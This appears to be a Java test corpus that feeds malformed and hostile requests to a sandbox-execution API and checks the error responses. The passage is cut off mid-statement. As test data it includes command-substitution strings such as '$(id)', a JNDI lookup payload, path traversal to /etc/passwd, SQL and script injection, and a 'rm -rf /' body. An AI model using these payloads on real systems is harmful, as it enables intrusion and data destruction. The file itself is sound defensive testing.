package dev.omni.security;

import static dev.omni.security.BadRequest.JOB;
import static dev.omni.security.BadRequest.SANDBOX;
import static dev.omni.security.Request.call;
import static dev.omni.security.Request.get;
import static dev.omni.security.Request.post;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;

/** Bad requests as people and programs send them, by hand, group by group. */
final class RequestCorpus {
    private static final String SANDBOXES = "/api/v1/sandboxes";
    private static final String EXEC = SANDBOXES + "/" + SANDBOX + "/exec";
    private static final String JOBS = SANDBOXES + "/" + SANDBOX + "/jobs";
    private static final String OUTPUT = JOBS + "/" + JOB + "/output";
    private static final String EVENTS = JOBS + "/" + JOB + "/events";
    private static final String MALFORMED = "malformed_json";
    private static final String INVALID = "validation_failed";
    private static final String UNKNOWN_FIELD = "unknown_field";
    private static final String UNKNOWN_PARAMETER = "unknown_parameter";
    private static final String BAD_CURSOR = "invalid_cursor";

    private final List<BadRequest> corpus = new ArrayList<>();
    private String group = "";

    private RequestCorpus() {}

    static List<BadRequest> all() {
        var requests = new RequestCorpus();
        requests.malformedJson();
        requests.bytesThatAreNoText();
        requests.otherKindsOfBody();
        requests.keys();
        requests.depthAndNumbers();
        requests.oversized();
        requests.contentTypes();
        requests.accepts();
        requests.queries();
        requests.cursors();
        requests.paths();
        requests.methods();
        requests.headers();
        requests.injections();
        requests.combinations();
        requests.noRequestsAtAll();
        return List.copyOf(requests.corpus);
    }

    private void malformedJson() {
        group = "malformed JSON";
        for (String json : new String[] {
            "{",
            "}",
            "]",
            "{]",
            "{\"name\"}",
            "{\"name\":",
            "{\"name\":}",
            "{\"name\":\"a",
            "{\"name\":\"a\"",
            "{\"name\":\"a\",}",
            "{,\"name\":\"a\"}",
            "{name:\"a\"}",
            "{'name':'a'}",
            "{\"name\":\"a\"}}",
            "{\"name\":\"a\"}{\"name\":\"b\"}",
            "{\"name\":\"a\"} true",
            "{} []",
            "{}//",
            "/**/{}",
            "#\n{}",
            "{\"name\":\"a\";\"snapshot\":\"b\"}",
            "{\"name\":\"a\" \"snapshot\":\"b\"}",
            "{\"name\" \"a\"}",
            "{\"name\"=\"a\"}",
            "{\"name\":undefined}",
            "{\"name\":None}",
            "{\"name\":NULL}",
            "{\"resources\":{\"cpu\":NaN}}",
            "{\"resources\":{\"cpu\":Infinity}}",
            "{\"resources\":{\"cpu\":-Infinity}}",
            "{\"resources\":{\"cpu\":-}}",
            "{\"resources\":{\"cpu\":01}}",
            "{\"resources\":{\"cpu\":+1}}",
            "{\"resources\":{\"cpu\":.5}}",
            "{\"resources\":{\"cpu\":1.}}",
            "{\"resources\":{\"cpu\":0x10}}",
            "{\"resources\":{\"cpu\":1e}}",
            "{\"resources\":{\"cpu\":1_000}}",
            "{\"name\":\"\\q\"}",
            "{\"name\":\"\\u12\"}",
            "{\"name\":\"\\u00zz\"}",
            "{\"name\":\"\\x41\"}",
            "{\"name\":\"a\nb\"}",
            "{\"name\":\"a\tb\"}",
            "{\"name\":\"a\u0000b\"}",
            "{\"name\":\"a\u001fb\"}",
            "tru",
            "nul",
            ",{}",
            "<name>a</name>",
            "name: a",
            "name=a&snapshot=b",
            "{\"name\":\"a\"}\u0000",
            "\u0000{}",
            "{}\u001a",
            "\u00a0{}",
            "{\u2028}",
            ")]}',\n{}",
            "while(1);{}",
            "{\"name\":\"a\"}\r\n\r\nGET / HTTP/1.1",
            "\uFEFF{}",
            "{\"labels\":{\"a\":\"b\",}}",
            "{\"network\":{\"allow\":[\"10.0.0.0/8\",]}}",
            "{\"network\":{\"allow\":[,]}}",
            "{1:\"a\"}",
            "{null:1}",
            "{{}}"
        }) {
            bad(post(SANDBOXES).json(json), 400, MALFORMED);
        }
    }

    private void bytesThatAreNoText() {
        group = "not UTF-8";
        for (String hex : new String[] {
            "80",
            "bf",
            "c080",
            "c0af",
            "c1bf",
            "e08080",
            "e0809f",
            "eda080",
            "edbfbf",
            "eda080edb080",
            "f0808080",
            "f4908080",
            "f5808080",
            "f888808080",
            "fe",
            "ff",
            "e282",
            "f09f98",
            "c3",
            "e9",
            "c3e9",
            "fffe",
            "feff"
        }) {
            bad(post(SANDBOXES).json(around("{\"labels\":{\"a\":\"", hex, "\"}}")), 400, MALFORMED);
            bad(post(EXEC).json(around("{\"command\":\"", hex, "\"}")), 400, MALFORMED);
        }
        for (var charset : List.of(
                StandardCharsets.UTF_16,
                StandardCharsets.UTF_16LE,
                StandardCharsets.UTF_16BE,
                Charset.forName("UTF-32LE"),
                Charset.forName("UTF-32BE"))) {
            bad(post(SANDBOXES).json("{\"name\":\"a\"}".getBytes(charset)), 400, MALFORMED);
        }
        bad(
                post(SANDBOXES).json(HexFormat.of().parseHex("1f8b0800000000000003abae050043bfa6a302000000")),
                400,
                MALFORMED);

        group = "half of a surrogate pair";
        for (String half : new String[] {"\\ud800", "\\udfff", "\\udc00\\ud800", "a\\ud83d", "\\ude00b"}) {
            bad(post(SANDBOXES).json("{\"labels\":{\"a\":\"" + half + "\"}}"), 400, INVALID, "labels.a");
            bad(post(SANDBOXES).json("{\"env\":{\"A\":\"" + half + "\"}}"), 400, INVALID, "env.A");
            bad(post(EXEC).json("{\"command\":\"echo " + half + "\"}"), 400, INVALID, "command");
            bad(post(JOBS).json("{\"command\":\"echo " + half + "\"}"), 400, INVALID, "command");
            bad(post(JOBS).json("{\"prompt\":{\"input\":\"" + half + "\"}}"), 400, INVALID, "prompt.input");
        }
    }

    private void otherKindsOfBody() {
        group = "another kind of body";
        for (String json : new String[] {
            "", "   ", "null", "[]", "[{}]", "\"a\"", "1", "1.5", "true", "\"{}\"", "[\"java.util.HashMap\",{}]"
        }) {
            bad(post(SANDBOXES).json(json), 400, INVALID, "body");
            bad(post(JOBS).json(json), 400, INVALID, "body");
        }
        bad(post(SANDBOXES).header("Content-Type: application/json"), 400, INVALID, "body");
        bad(post("/api/sandbox/create").json(""), 400, INVALID, "body");
        bad(post("/dev/token").json("null"), 400, INVALID, "body");
    }

    private void keys() {
        group = "a key twice";
        bad(post(SANDBOXES).json("{\"name\":\"a\",\"name\":\"b\"}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"name\":\"a\",\"na\\u006de\":\"b\"}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"name\":null,\"name\":\"b\"}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"idle\":{\"stopAfterMinutes\":1,\"stopAfterMinutes\":2}}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"idle\":{},\"idle\":{}}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"env\":{\"A\":\"1\",\"A\":\"2\"}}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"labels\":{\"a\":\"1\",\"a\":\"2\"}}"), 400, MALFORMED);
        bad(post(EXEC).json("{\"command\":\"true\",\"command\":\"false\"}"), 400, MALFORMED);
        bad(post(JOBS).json("{\"prompt\":{\"input\":\"a\",\"input\":\"b\"}}"), 400, MALFORMED);
        bad(post("/api/knowledge/process").json("{\"input\":\"a\",\"userId\":\"x\",\"userId\":\"y\"}"), 400, MALFORMED);
        bad(post("/dev/token").json("{\"sub\":\"a\",\"sub\":\"b\"}"), 400, MALFORMED);

        group = "an unknown key";
        for (String key : new String[] {
            "foo",
            "Name",
            "NAME",
            "name ",
            " name",
            "names",
            "user",
            "userId",
            "owner",
            "id",
            "status",
            "__proto__",
            "constructor",
            "prototype",
            "$ref",
            "@class",
            "@type",
            "class",
            "omni.owner",
            "*",
            "name.first",
            "0",
            "ｎame"
        }) {
            bad(post(SANDBOXES).json("{\"" + key + "\":\"hush\"}"), 400, UNKNOWN_FIELD, key);
        }
        bad(post(SANDBOXES).json("{\"a\\u0000b\":1}"), 400, UNKNOWN_FIELD, "a\uFFFDb");
        bad(post(SANDBOXES).json("{\"a\\r\\nb\":1}"), 400, UNKNOWN_FIELD, "a\uFFFD\uFFFDb");
        bad(post(SANDBOXES).json("{\"" + "a".repeat(999) + "\":1}"), 400, UNKNOWN_FIELD, "a".repeat(200));
        bad(post(SANDBOXES).json("{\"idle\":{\"foo\":1}}"), 400, UNKNOWN_FIELD, "idle.foo");
        bad(post(SANDBOXES).json("{\"resources\":{\"gpu\":1}}"), 400, UNKNOWN_FIELD, "resources.gpu");
        bad(post(SANDBOXES).json("{\"network\":{\"deny\":[]}}"), 400, UNKNOWN_FIELD, "network.deny");
        bad(call("PATCH", SANDBOXES + "/" + SANDBOX).json("{\"name\":\"b\"}"), 400, UNKNOWN_FIELD, "name");
        bad(call("PATCH", SANDBOXES + "/" + SANDBOX).json("{\"status\":\"ready\"}"), 400, UNKNOWN_FIELD, "status");
        bad(call("PATCH", SANDBOXES + "/" + SANDBOX).json("{\"op\":\"replace\"}"), 400, UNKNOWN_FIELD, "op");
        bad(post(EXEC).json("{\"command\":\"true\",\"shell\":\"bash\"}"), 400, UNKNOWN_FIELD, "shell");
        bad(post(JOBS).json("{\"command\":\"true\",\"user\":\"root\"}"), 400, UNKNOWN_FIELD, "user");
        bad(post(JOBS).json("{\"prompt\":{\"input\":\"a\",\"tools\":[]}}"), 400, UNKNOWN_FIELD, "prompt.tools");
        bad(post(JOBS + "/" + JOB + "/input").json("{\"data\":\"a\",\"eof\":true}"), 400, UNKNOWN_FIELD, "eof");
        bad(post("/api/sandbox/create").json("{\"force\":true}"), 400, UNKNOWN_FIELD, "force");
        bad(post("/api/knowledge/process").json("{\"input\":\"a\",\"apiKey\":\"hush\"}"), 400, UNKNOWN_FIELD, "apiKey");
        bad(post("/dev/token").json("{\"sub\":\"a\",\"admin\":true}"), 400, UNKNOWN_FIELD, "admin");
    }

    private void depthAndNumbers() {
        group = "too deep, too long";
        for (int depth : new int[] {33, 100, 10_000}) {
            bad(post(SANDBOXES).json("[".repeat(depth)), 400, INVALID, "body");
            bad(post(SANDBOXES).json("{\"foo\":" + "[".repeat(depth) + "]".repeat(depth) + "}"), 400, MALFORMED);
            bad(post(SANDBOXES).json("{\"foo\":".repeat(depth) + "1" + "}".repeat(depth)), 400, MALFORMED);
        }
        bad(post(SANDBOXES).json("{\"" + "a".repeat(1_001) + "\":1}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"foo\":" + "9".repeat(101) + "}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"resources\":{\"cpu\":" + "9".repeat(1_000) + "}}"), 400, MALFORMED);
        bad(post(SANDBOXES).json("{\"resources\":{\"cpu\":1." + "0".repeat(200) + "}}"), 400, MALFORMED);

        group = "numbers";
        for (String number : new String[] {
            "2147483648",
            "-2147483649",
            "4294967297",
            "9223372036854775808",
            "99999999999999999999",
            "1e400",
            "1e2",
            "1E1000000000",
            "-1E-1000000000",
            "0.9999999999999999999",
            "1.0",
            "1e-7"
        }) {
            bad(post(SANDBOXES).json("{\"resources\":{\"cpu\":" + number + "}}"), 400, INVALID, "resources.cpu");
        }
        bad(post(SANDBOXES).json("{\"resources\":{\"cpu\":-0}}"), 400, INVALID, "resources.cpu");
        bad(post(EXEC).json("{\"command\":\"true\",\"timeoutSeconds\":1e9}"), 400, INVALID, "timeoutSeconds");
        bad(post(JOBS).json("{\"command\":\"true\",\"timeoutSeconds\":2147483647}"), 400, INVALID, "timeoutSeconds");
        bad(post(SANDBOXES).json("{\"idle\":{\"stopAfterMinutes\":1441}}"), 400, INVALID, "idle.stopAfterMinutes");
        bad(
                post(SANDBOXES).json("{\"idle\":{\"archiveAfterMinutes\":43201}}"),
                400,
                INVALID,
                "idle.archiveAfterMinutes");
        bad(
                post(SANDBOXES).json("{\"idle\":{\"deleteAfterMinutes\":525601}}"),
                400,
                INVALID,
                "idle.deleteAfterMinutes");
    }

    private void oversized() {
        group = "too much";
        bad(
                post(SANDBOXES).header("Content-Type: application/json").header("Content-Length: 1048577"),
                413,
                "too_large");
        bad(post(EXEC).header("Content-Length: 9223372036854775807"), 413, "too_large");
        bad(post("/api/v1/nothing").header("Content-Length: 99999999"), 413, "too_large");
        bad(post("/dev/token").json("{\"sub\":\"" + "a".repeat(1 << 20) + "\"}"), 413, "too_large");
        bad(post(EXEC).json("{\"command\":\"" + "a".repeat(32 * 1024 + 1) + "\"}"), 400, INVALID, "command");
        bad(
                post(JOBS).json("{\"prompt\":{\"input\":\"" + "a".repeat(512 * 1024 + 1) + "\"}}"),
                400,
                INVALID,
                "prompt.input");
        bad(
                post(EXEC).json("{\"command\":\"true\",\"stdin\":\"" + "a".repeat(512 * 1024 + 1) + "\"}"),
                400,
                INVALID,
                "stdin");
        bad(
                post(JOBS + "/" + JOB + "/input").json("{\"data\":\"" + "a".repeat(64 * 1024 + 1) + "\"}"),
                400,
                INVALID,
                "data");
        bad(post(SANDBOXES).json("{\"env\":{" + entries(65, "A") + "}}"), 400, INVALID, "env");
        bad(post(EXEC).json("{\"command\":\"true\",\"env\":{" + entries(65, "A") + "}}"), 400, INVALID, "env");
        bad(post(SANDBOXES).json("{\"env\":{\"A\":\"" + "a".repeat(8 * 1024 + 1) + "\"}}"), 400, INVALID, "env[A]");
        bad(post(SANDBOXES).json("{\"env\":{\"" + "A".repeat(129) + "\":\"\"}}"), 400, INVALID);
        bad(post(SANDBOXES).json("{\"labels\":{" + entries(33, "a") + "}}"), 400, INVALID, "labels");
        bad(post(SANDBOXES).json("{\"labels\":{\"a\":\"" + "b".repeat(256) + "\"}}"), 400, INVALID, "labels[a]");
        bad(post(SANDBOXES).json("{\"labels\":{\"" + "a".repeat(64) + "\":\"\"}}"), 400, INVALID);
        bad(post(SANDBOXES).json("{\"name\":\"" + "a".repeat(64) + "\"}"), 400, INVALID, "name");
        bad(
                post(SANDBOXES)
                        .json("{\"network\":{\"allow\":["
                                + IntStream.range(0, 11)
                                        .mapToObj(i -> "\"10.0.0.0/8\"")
                                        .collect(Collectors.joining(","))
                                + "]}}"),
                400,
                INVALID,
                "network.allow");
    }

    private void contentTypes() {
        group = "another content type";
        for (String type : new String[] {
            "text/plain",
            "text/json",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/jsonp",
            "application/problem+json",
            "application/json-patch+json",
            "application/octet-stream",
            "image/png",
            "nonsense",
            "application",
            "/",
            ";",
            "application/",
            "/json",
            "application/json/x",
            "application json"
        }) {
            bad(post(SANDBOXES).header("Content-Type: " + type).body("{}"), 415, "unsupported_media_type");
        }
        bad(post(SANDBOXES).body("{}"), 415, "unsupported_media_type");
        bad(
                call("PATCH", SANDBOXES + "/" + SANDBOX)
                        .header("Content-Type: text/html")
                        .body("{}"),
                415,
                "unsupported_media_type");
        bad(post(EXEC).header("Content-Type: text/x-sh").body("rm -rf /"), 415, "unsupported_media_type");
        bad(post("/dev/token").header("Content-Type: text/plain").body("{}"), 415, "unsupported_media_type");
        bad(post("/api/sandbox/create").header("Content-Type: text/plain").body("{}"), 415, "unsupported_media_type");
    }

    private void accepts() {
        group = "nothing that can be sent";
        for (String accept : new String[] {"image/png", "application/xml", "text/html", "text/*"}) {
            bad(get(SANDBOXES).header("Accept: " + accept), 406, "not_acceptable");
        }
        for (String accept : new String[] {"application/json", "text/html", "image/*", "application/x-ndjson"}) {
            bad(get(EVENTS).header("Accept: " + accept), 406, "not_acceptable");
        }
        bad(get(OUTPUT).header("Accept: application/json"), 406, "not_acceptable");
    }

    private void queries() {
        group = "a wrong query";
        for (String query : new String[] {
            "limit=",
            "limit=0",
            "limit=-1",
            "limit=101",
            "limit=1.5",
            "limit=ten",
            "limit=1e1",
            "limit=0x10",
            "limit=99999999999",
            "limit=%205",
            "limit=5%00",
            "limit=1&limit=2",
            "limit=1&limit=1",
            "limit=null",
            "limit"
        }) {
            bad(get(SANDBOXES + "?" + query), 400, INVALID, "limit");
        }
        for (String query : new String[] {
            "status=",
            "status=READY",
            "status=unknown",
            "status=ready,stopped",
            "status=ready&status=stopped",
            "status=ready%00",
            "status=ready%27%20OR%201=1--",
            "status"
        }) {
            bad(get(SANDBOXES + "?" + query), 400, INVALID, "status");
        }
        for (String query : new String[] {
            "label=", "label=a", "label=:a", "label=omni.owner:bob", "label=omni.managed:true", "label=a%00:b",
            "label=a:b%0a", "label=a:%00", "label=a:1&label=a:2", "label=*:*", "label=-a:b", "label=a%20b:c",
            "label=%7B%22a%22:%22b%22%7D"
        }) {
            bad(get(SANDBOXES + "?" + query), 400, INVALID, "label");
        }
        bad(
                get(SANDBOXES + "?"
                        + IntStream.range(0, 33)
                                .mapToObj(i -> "label=a" + i + ":b")
                                .collect(Collectors.joining("&"))),
                400,
                INVALID,
                "label");
        group = "an unknown query parameter";
        for (String name : new String[] {
            "unknown",
            "Limit",
            "limit%5B%5D",
            "limit%20",
            "limit%00",
            "page",
            "offset",
            "owner",
            "user",
            "access_token",
            "token",
            "jwt",
            "__proto__",
            "status%5B$ne%5D",
            "%24where",
            "q",
            "callback"
        }) {
            bad(get(SANDBOXES + "?" + name + "=hush"), 400, UNKNOWN_PARAMETER);
        }
        bad(get(SANDBOXES + "/" + SANDBOX + "?expand=all"), 400, UNKNOWN_PARAMETER, "expand");
        bad(call("DELETE", SANDBOXES + "/" + SANDBOX + "?force=true"), 400, UNKNOWN_PARAMETER, "force");
        bad(post(SANDBOXES + "/" + SANDBOX + "/start?wait=1"), 400, UNKNOWN_PARAMETER, "wait");
        bad(post(SANDBOXES + "/" + SANDBOX + "/stop?force"), 400, UNKNOWN_PARAMETER, "force");
        bad(post(EXEC + "?timeout=1").json("{\"command\":\"true\"}"), 400, UNKNOWN_PARAMETER, "timeout");
        bad(get(JOBS + "?limit=1"), 400, UNKNOWN_PARAMETER, "limit");
        bad(get(EVENTS + "?cursor=x"), 400, UNKNOWN_PARAMETER, "cursor");
        bad(get(EVENTS + "?access_token=hush"), 400, UNKNOWN_PARAMETER, "access_token");
        bad(get(OUTPUT + "?stream=stdin"), 400, INVALID, "stream");
        bad(get(OUTPUT + "?stream="), 400, INVALID, "stream");
        bad(get(OUTPUT + "?stream=stdout&stream=stderr"), 400, INVALID, "stream");
        bad(get(OUTPUT + "?stream=stdout%7Cstderr"), 400, INVALID, "stream");
        bad(get("/api/sandbox/status"), 400, INVALID, "id");
        bad(get("/api/sandbox/status?id="), 400, INVALID, "id");
        bad(get("/api/sandbox/status?id=a&id=b"), 400, INVALID, "id");
        bad(get("/api/sandbox/status?ID=a"), 400, UNKNOWN_PARAMETER, "ID");
        bad(get("/api/sandbox/status?id=a&userId=somebody-else"), 403, "user_mismatch");
    }

    private void cursors() {
        group = "a forged cursor";
        bad(get(OUTPUT + "?cursor="), 400, INVALID, "cursor");
        bad(get(SANDBOXES + "?cursor="), 400, INVALID, "cursor");
        for (String cursor : new String[] {
            "x",
            "%00",
            "null",
            "0",
            "-1",
            "AQ",
            "====",
            "AQgAAAAAAAAAAA",
            "AQgAAAAAAAAAAAAAAAA=",
            "../../etc/passwd",
            "AQgAAAAAAAAAAAAAAAA",
            "AggAAAAAAAAAAAAAAAA",
            "AYD__________wAAAAA",
            "a".repeat(3_000),
            "%7B%7D",
            "1%27--"
        }) {
            bad(get(OUTPUT + "?cursor=" + cursor), 400, BAD_CURSOR);
        }
        for (String cursor : new String[] {
            "x", "0", "-1", "AQ", "AQgAAAAAAAAAAAAAAAA", "AggAAAAAAAAAAAAAAAA", "a b", "<id>", "é", "a".repeat(3_000)
        }) {
            bad(get(EVENTS).header("Last-Event-ID: " + cursor), 400, BAD_CURSOR);
        }
        bad(get(OUTPUT + "?cursor=a&cursor=b"), 400, INVALID, "cursor");
        for (String cursor : new String[] {
            "x",
            "null",
            "%00",
            "MQ",
            "MXRoaXMgaXMgbm90aGluZyBvZiBvdXJz",
            "====",
            "a".repeat(2_049),
            "..%2F..",
            "%F0%9F%98%80"
        }) {
            bad(get(SANDBOXES + "?cursor=" + cursor), 400, BAD_CURSOR);
        }
    }

    private void paths() {
        group = "an id that is none";
        for (String id : new String[] {
            "x",
            "-",
            "null",
            "undefined",
            "true",
            "0",
            "a".repeat(65),
            "a".repeat(2_000),
            "no_id",
            "%20",
            "%00",
            "a%00b",
            "%0a",
            "%0d%0aX-Injected:%201",
            "a.b",
            "%2e%2e%2e",
            "..%5c..%5cwindows",
            "%5c",
            "%27%20OR%20%271%27=%271",
            "%22",
            "*",
            "%25",
            "%2525",
            "%252e%252e%252f",
            "%E2%80%AE",
            "%F0%9F%98%80",
            "%EF%BF%BD",
            "%24%7Bjndi:ldap:x.example%7D",
            "%24%7B7*7%7D",
            "%7B%7B7*7%7D%7D",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "$(id)",
            "%60id%60",
            "a%7Cls",
            "*)(uid=*",
            "0b6f6a0e-3d1b-4d8e-9b7b-9b5a0d2f7c55%20",
            "omni-test-default",
            SANDBOX + "%00",
            SANDBOX + ".json"
        }) {
            bad(get(SANDBOXES + "/" + id), 404, "sandbox_not_found");
        }
        for (String id : new String[] {"x", "%00", "..%2e", "$(id)", "a%7Cls"}) {
            bad(post(SANDBOXES + "/" + id + "/exec").json("{\"command\":\"true\"}"), 404, "sandbox_not_found");
            bad(get("/api/sandbox/status?id=" + id), 404, "sandbox_not_found");
        }
        for (String id : new String[] {
            "x",
            "1",
            "1-1-1-1-1",
            "%00",
            "null",
            "00000000-0000-0000-0000-00000000000g",
            "00000000-0000-0000-0000-0000000000000",
            "000000000000-0000-0000-0000-00000000",
            "%7B" + JOB + "%7D",
            JOB + "%00",
            JOB + "%20",
            "%27--"
        }) {
            bad(get(JOBS + "/" + id), 400, INVALID, "jobId");
        }
        bad(get(JOBS + "/x/events"), 400, INVALID, "jobId");
        bad(get(JOBS + "/x/output"), 400, INVALID, "jobId");
        bad(post(JOBS + "/x/cancel"), 400, INVALID, "jobId");
        bad(get(JOBS + "/00000000-0000-0000-0000-000000000000"), 404, "job_not_found");
        bad(get(JOBS + "/00000000-0000-0000-0000-000000000000/events"), 404, "job_not_found");
        bad(post(JOBS + "/00000000-0000-0000-0000-000000000000/cancel"), 404, "job_not_found");

        group = "no such address";
        for (String path : new String[] {
            "/nothing",
            "/api",
            "/api/",
            "/api/v1",
            "/api/v2/sandboxes",
            "/API/v1/sandboxes",
            "/api/v1/Sandboxes",
            "/api/v1/sandboxes/" + SANDBOX + "/nothing",
            JOBS + "/" + JOB + "/nothing",
            "/.env",
            "/.git/config",
            "/WEB-INF/web.xml",
            "/META-INF/MANIFEST.MF",
            "/application.properties",
            "/actuator/env",
            "/metrics",
            "/q/nothing",
            "/q/dev-ui",
            "/admin",
            "/wp-login.php",
            "/cgi-bin/x",
            "/server-status",
            "/%c0%ae%c0%ae/etc/passwd",
            "/%2e%2e/%2e%2e/etc/passwd",
            "/../../etc/passwd",
            "/..%2f..%2fetc%2fpasswd",
            "/console/..%2f..%2fapplication.properties",
            "/client/%2e%2e/omni.js.map",
            "/client/",
            "/console/",
            "/%00",
            "/%E2%80%AE",
            "/ws/x",
            "/ws",
            "/dev",
            "/dev/",
            "/api/v1/sandboxes%2f" + SANDBOX,
            "/api%2fv1/sandboxes",
            "/api/v1/sandboxes;/x/y/z",
            "/api/v1/sandboxes/a;b=c",
            "//evil.example/api/v1/x"
        }) {
            bad(get(path), 404, "not_found");
        }
    }

    private void methods() {
        group = "another method";
        bad(call("PUT", SANDBOXES).json("{}"), 405, "method_not_allowed");
        bad(call("DELETE", SANDBOXES), 405, "method_not_allowed");
        bad(call("PATCH", SANDBOXES).json("{}"), 405, "method_not_allowed");
        bad(call("TRACE", SANDBOXES), 405, "method_not_allowed");
        bad(call("FOO", SANDBOXES), 405, "method_not_allowed");
        bad(call("get", SANDBOXES), 405, "method_not_allowed");
        bad(call("PROPFIND", SANDBOXES), 405, "method_not_allowed");
        bad(call("PUT", SANDBOXES + "/" + SANDBOX).json("{}"), 405, "method_not_allowed");
        bad(post(SANDBOXES + "/" + SANDBOX).json("{}"), 405, "method_not_allowed");
        bad(get(EXEC), 405, "method_not_allowed");
        bad(call("DELETE", JOBS), 405, "method_not_allowed");
        bad(call("DELETE", JOBS + "/" + JOB), 405, "method_not_allowed");
        bad(get(JOBS + "/" + JOB + "/cancel"), 405, "method_not_allowed");
        bad(post(OUTPUT), 405, "method_not_allowed");
        bad(get("/dev/token"), 405, "method_not_allowed");
        bad(get("/api/sandbox/create"), 405, "method_not_allowed");
        bad(post("/client/omni.js").body("x"), 405, "method_not_allowed");
        bad(post(SANDBOXES + "/" + SANDBOX).header("X-HTTP-Method-Override: DELETE"), 405, "method_not_allowed");
    }

    private void headers() {
        group = "a wrong header";
        for (String key : new String[] {"a b", "é", "a".repeat(129), "a\tb", "ключ"}) {
            bad(post(SANDBOXES).header("Idempotency-Key: " + key).json("{}"), 400, INVALID, "Idempotency-Key");
            bad(
                    post(JOBS).header("Idempotency-Key: " + key).json("{\"command\":\"true\"}"),
                    400,
                    INVALID,
                    "Idempotency-Key");
        }
        bad(post(SANDBOXES).header("Idempotency-Key:").json("{}"), 400, INVALID, "Idempotency-Key");
        bad(
                post(SANDBOXES)
                        .header("Idempotency-Key: a")
                        .header("Idempotency-Key: b")
                        .json("{}"),
                400,
                INVALID,
                "Idempotency-Key");
        bad(
                post(JOBS)
                        .header("Idempotency-Key: a")
                        .header("Idempotency-Key: b")
                        .json("{\"command\":\"true\"}"),
                400,
                INVALID,
                "Idempotency-Key");
        bad(get(EVENTS).header("Last-Event-ID: a").header("Last-Event-ID: b"), 400, INVALID, "Last-Event-ID");
        for (String prefer : new String[] {
            "wait=61",
            "wait=-1",
            "wait=abc",
            "wait=",
            "wait",
            "wait=1.5",
            "wait=99999",
            "wait=\"1\"",
            "WAIT=61",
            "respond-async, wait=x",
            "wait=0x1",
            "wait=1 0",
            "wait=٣"
        }) {
            bad(call("PUT", SANDBOXES + "/default").header("Prefer: " + prefer), 400, INVALID, "Prefer");
        }
        bad(get(SANDBOXES).header("Host: a").header("Host: b"), 400, INVALID, "Host");
        bad(get(SANDBOXES).header("Host: a").header("Host: a"), 400, INVALID, "Host");
        group = "a request id that is none";
        for (String id :
                new String[] {"", "a b", "<script>", "é", "a".repeat(129), "a;b", "${x}", "a,b", "a\tb", "\"a\""}) {
            bad(get("/nothing").header("X-Request-Id: " + id), 404, "not_found");
        }
    }

    private void injections() {
        group = "an injection";
        for (String name : new String[] {
            "A B", "A;id", "A=B", "$(id)", "`id`", "A\\nB", "1A", "A-B", "A.B", "", "PATH ", "\\u0000", "A$", "Ä",
            "A|B", "A&&B", "A'"
        }) {
            bad(post(SANDBOXES).json("{\"env\":{\"" + name + "\":\"x\"}}"), 400, INVALID);
            bad(post(EXEC).json("{\"command\":\"true\",\"env\":{\"" + name + "\":\"x\"}}"), 400, INVALID);
        }
        bad(post(SANDBOXES).json("{\"env\":{\"USER_ID\":\"root\"}}"), 400, INVALID);
        bad(post(SANDBOXES).json("{\"env\":{\"A\":\"a\\u0000b\"}}"), 400, INVALID, "env[A]");
        for (String key : new String[] {
            "omni.owner",
            "omni.managed",
            "omni.",
            "",
            "a b",
            "-a",
            "a-",
            "a:b",
            "a,b",
            "a=b",
            "$where",
            "a\\u0000",
            "ä",
            "{}",
            "a\\nb",
            "../a"
        }) {
            bad(post(SANDBOXES).json("{\"labels\":{\"" + key + "\":\"x\"}}"), 400, INVALID);
            bad(call("PATCH", SANDBOXES + "/" + SANDBOX).json("{\"labels\":{\"" + key + "\":\"x\"}}"), 400, INVALID);
        }
        for (String value : new String[] {"a\\nb", "a\\u0000", "\\u2028", "\\u001b[31m", "\\u0085"}) {
            bad(post(SANDBOXES).json("{\"labels\":{\"a\":\"" + value + "\"}}"), 400, INVALID, "labels[a]");
        }
        for (String name : new String[] {
            "default",
            "",
            " ",
            "A",
            "a b",
            "../a",
            "a/b",
            "-a",
            "a-",
            "a'--",
            "$(id)",
            "a\\u0000",
            "ä",
            "a\\n",
            "%61",
            "{{7*7}}",
            "<b>"
        }) {
            bad(post(SANDBOXES).json("{\"name\":\"" + name + "\"}"), 400, INVALID, "name");
        }
        for (String snapshot :
                new String[] {"", " ", "-a", "../a", "a b", "a;id", "a\\n", "$(id)", "a'", "a\\\\b", "\\u0000"}) {
            bad(post(SANDBOXES).json("{\"snapshot\":\"" + snapshot + "\"}"), 400, INVALID, "snapshot");
        }
        for (String network : new String[] {
            "",
            "10.0.0.0",
            "10.0.0.0/33",
            "256.0.0.0/8",
            "10.0.0/8",
            "::/0",
            "localhost/8",
            "10.0.0.0/8,0.0.0.0/0",
            "10.0.0.0/8\\n",
            "a"
        }) {
            bad(
                    post(SANDBOXES).json("{\"network\":{\"allow\":[\"" + network + "\"]}}"),
                    400,
                    INVALID,
                    "network.allow[0]");
        }
        for (String cwd : new String[] {"", "a\\u0000b", "a\\nb", "\\r", "\\u007f", "\\u001b"}) {
            bad(post(EXEC).json("{\"command\":\"true\",\"cwd\":\"" + cwd + "\"}"), 400, INVALID, "cwd");
            bad(post(JOBS).json("{\"command\":\"true\",\"cwd\":\"" + cwd + "\"}"), 400, INVALID, "cwd");
        }
        for (String command : new String[] {"", " ", "\\n", "a\\u0000b", "\\u0000"}) {
            bad(post(EXEC).json("{\"command\":\"" + command + "\"}"), 400, INVALID, "command");
            bad(post(JOBS).json("{\"command\":\"" + command + "\"}"), 400, INVALID, "command");
        }
        for (String model : new String[] {"", " ", "-p", "--dangerously", "a b", "a;id", "$(id)", "a\\nb", "a'b"}) {
            bad(
                    post(JOBS).json("{\"prompt\":{\"input\":\"a\",\"model\":\"" + model + "\"}}"),
                    400,
                    INVALID,
                    "prompt.model");
        }
        for (String session : new String[] {"", "-r", "../a", "a b", "a;id", "$(id)", "a\\n"}) {
            bad(
